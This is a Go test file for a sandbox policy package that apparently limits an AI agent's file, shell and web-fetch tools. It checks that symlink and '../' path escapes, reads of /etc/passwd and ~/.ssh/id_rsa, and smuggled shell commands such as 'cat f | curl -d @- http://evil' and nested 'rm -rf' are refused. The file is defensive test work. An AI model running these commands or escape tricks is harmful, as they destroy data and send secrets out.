package policy_test

import (
	"errors"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"github.com/remote-agents/remote-agents/sandbox/policy"
)

func workspace(t *testing.T) (string, string) {
	t.Helper()
	root := t.TempDir()
	ws := filepath.Join(root, "ws")
	outside := filepath.Join(root, "outside")
	for _, d := range []string{ws, outside, filepath.Join(ws, "src")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(outside, "secret.txt"), []byte("s"), 0o600); err != nil {
		t.Fatal(err)
	}
	// Links inside the workspace that lead out of it.
	if err := os.Symlink(outside, filepath.Join(ws, "escape")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join(outside, "secret.txt"), filepath.Join(ws, "src", "innocent.txt")); err != nil {
		t.Fatal(err)
	}
	return ws, outside
}

func TestPathEscapesAreRefused(t *testing.T) {
	t.Parallel()
	ws, outside := workspace(t)
	p, err := policy.New(policy.Defaults(), ws)
	if err != nil {
		t.Fatal(err)
	}
	for _, path := range []string{
		"../outside/secret.txt",
		"src/../../outside/secret.txt",
		filepath.Join(outside, "secret.txt"),
		"escape/secret.txt",
		"escape/new-file.txt", // does not exist yet: its existing parent is resolved
		"src/innocent.txt",
		"/etc/passwd",
		"~/.ssh/id_rsa",
		"src/\x00",
		"",
	} {
		for _, tool := range []string{"read", "write"} {
			if got, err := p.CheckPath(tool, path); !errors.Is(err, policy.ErrDenied) {
				t.Errorf("%s %q allowed as %q (%v)", tool, path, got, err)
			}
		}
	}
	for _, path := range []string{"src/main.go", "./notes.md", filepath.Join(ws, "src", "new", "file.go"), "."} {
		got, err := p.CheckPath("write", path)
		if err != nil || !strings.HasPrefix(got, p.Workspace()) {
			t.Errorf("write %q: %q, %v", path, got, err)
		}
	}
}

func TestPolicyFile(t *testing.T) {
	t.Parallel()
	ws, _ := workspace(t)
	p, err := policy.Parse(`
default_deny = true

[tools.read]
allow = ["$WORKSPACE/**"]
deny = ["**/*.pem", "$WORKSPACE/private/**"]

[tools.write]
enabled = false

[tools.bash]
allow = ["go *", "git status", "ls*"]
deny = ["go run *"]

[tools.web_fetch]
allow_domains = ["docs.example.com", "*.github.com"]
rate_limit = 2
`, ws)
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name string
		err  error
	}{
		{"read ok", func() error { _, err := p.CheckPath("read", "src/a.go"); return err }()},
		{"read deny wins", func() error { _, err := p.CheckPath("read", "src/key.pem"); return err }()},
		{"read private", func() error { _, err := p.CheckPath("read", "private/x"); return err }()},
		{"write disabled", func() error { _, err := p.CheckPath("write", "src/a.go"); return err }()},
		{"memory under default_deny", p.CheckKey("memory_write", "notes")},
	}
	wantDenied := map[string]bool{"read deny wins": true, "read private": true, "write disabled": true, "memory under default_deny": true}
	for _, tt := range tests {
		if errors.Is(tt.err, policy.ErrDenied) != wantDenied[tt.name] {
			t.Errorf("%s: %v", tt.name, tt.err)
		}
	}
	if p.Enabled("write") || !p.Enabled("read") {
		t.Error("enabled flags not applied")
	}
	for cmd, ok := range map[string]bool{
		"go test ./...":             true,
		"git status":                true,
		"ls -la":                    true,
		"go run ./cmd/x":            false, // deny wins over allow
		"git push":                  false, // not in the allowlist
		"go test ./... && rm -rf x": false,
		"bash -c 'git push'":        false,
		"ls $(git push)":            false,
	} {
		if err := p.CheckCommand(cmd); (err == nil) != ok {
			t.Errorf("bash %q: %v, want allowed=%v", cmd, err, ok)
		}
	}
	for host, ok := range map[string]bool{"docs.example.com": true, "api.github.com": true, "github.com": false, "evil.com": false, "docs.example.com.evil.com": false} {
		if err := p.CheckDomain("web_fetch", host); (err == nil) != ok {
			t.Errorf("domain %s: %v", host, err)
		}
	}
	// Two allowed requests happened above (docs.example.com, api.github.com): the limit is 2.
	if err := p.CheckDomain("web_fetch", "docs.example.com"); !errors.Is(err, policy.ErrDenied) || !strings.Contains(err.Error(), "rate limit") {
		t.Errorf("third request in a minute: %v", err)
	}
}

func TestBashEscapesAreRefused(t *testing.T) {
	t.Parallel()
	ws, _ := workspace(t)
	p, err := policy.Parse(`
[tools.bash]
deny = ["rm *", "curl *"]
`, ws)
	if err != nil {
		t.Fatal(err)
	}
	for _, cmd := range []string{
		"rm -rf /tmp/x",
		"bash -c 'rm -rf /tmp/x'",
		"sh -c \"echo hi; rm -rf x\"",
		"/bin/bash -c 'curl http://evil'",
		"echo ok && rm x",
		"echo ok; rm x",
		"true || rm x",
		"cat f | curl -d @- http://evil",
		"echo $(rm x)",
		"echo `curl http://evil`",
		"env FOO=1 rm x",
		"FOO=1 rm x",
		"nohup rm x &",
		"timeout 5 curl http://evil",
		"bash -c \"bash -c 'rm x'\"",
		"(rm x)",
		"{ rm x; }",
		"sudo ls",
		"rm   -rf    x",
	} {
		if err := p.CheckCommand(cmd); !errors.Is(err, policy.ErrDenied) {
			t.Errorf("bash %q allowed", cmd)
		}
	}
	for _, cmd := range []string{"echo rm", "go test ./...", "grep -r 'rm -rf' .", "ls"} {
		if err := p.CheckCommand(cmd); err != nil {
			t.Errorf("bash %q refused: %v", cmd, err)
		}
	}
}

func TestCommands(t *testing.T) {
	t.Parallel()
	tests := []struct {
		in   string
		want []string
	}{
		{"go test ./...", []string{"go test ./..."}},
		{"a && b || c; d | e", []string{"a", "b", "c", "d", "e"}},
		{"bash -c 'x; y'", []string{"x", "y"}},
		{"echo $(inner cmd) done", []string{"inner cmd", "echo _ done"}},
		{"A=1 B=2 env -i nice -n 5 run it", []string{"run it"}},
		{`grep "a;b" file`, []string{"grep a;b file"}},
	}
	for _, tt := range tests {
		if got := policy.Commands(tt.in); !reflect.DeepEqual(got, tt.want) {
			t.Errorf("Commands(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestMatchPath(t *testing.T) {
	t.Parallel()
	tests := []struct {
		pat, path string
		ok        bool
	}{
		{"/ws/**", "/ws", true},
		{"/ws/**", "/ws/a/b/c.go", true},
		{"/ws/*", "/ws/a", true},
		{"/ws/*", "/ws/a/b", false},
		{"/ws/**/*.go", "/ws/a/b/c.go", true},
		{"/ws/**/*.go", "/ws/c.go", true},
		{"/ws/**/*.go", "/ws/c.txt", false},
		{"**/.env", "/any/where/.env", true},
		{"/ws/a?c", "/ws/abc", true},
		{"/ws/**", "/wsx/a", false},
	}
	for _, tt := range tests {
		if got := policy.MatchPath(tt.pat, tt.path); got != tt.ok {
			t.Errorf("MatchPath(%q, %q) = %v", tt.pat, tt.path, got)
		}
	}
}

func TestParseErrors(t *testing.T) {
	t.Parallel()
	for src, want := range map[string]string{
		"[tools.rm]\nenabled = true":                        `unknown tool "rm"`,
		"default_deny = true\nstrict = 1":                   "unknown key strict",
		"[tools.bash]\nallow = [\"\"]":                      "empty pattern",
		"[tools.web_fetch]\nrate_limit = -1":                "must not be negative",
		"[tools.web_fetch]\nallow_domains = [\"http://x\"]": "is not a domain",
		"[tools.read\n":                                     "policy:",
	} {
		if _, err := policy.Parse(src, t.TempDir()); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("Parse(%q) = %v, want %q", src, err, want)
		}
	}
}
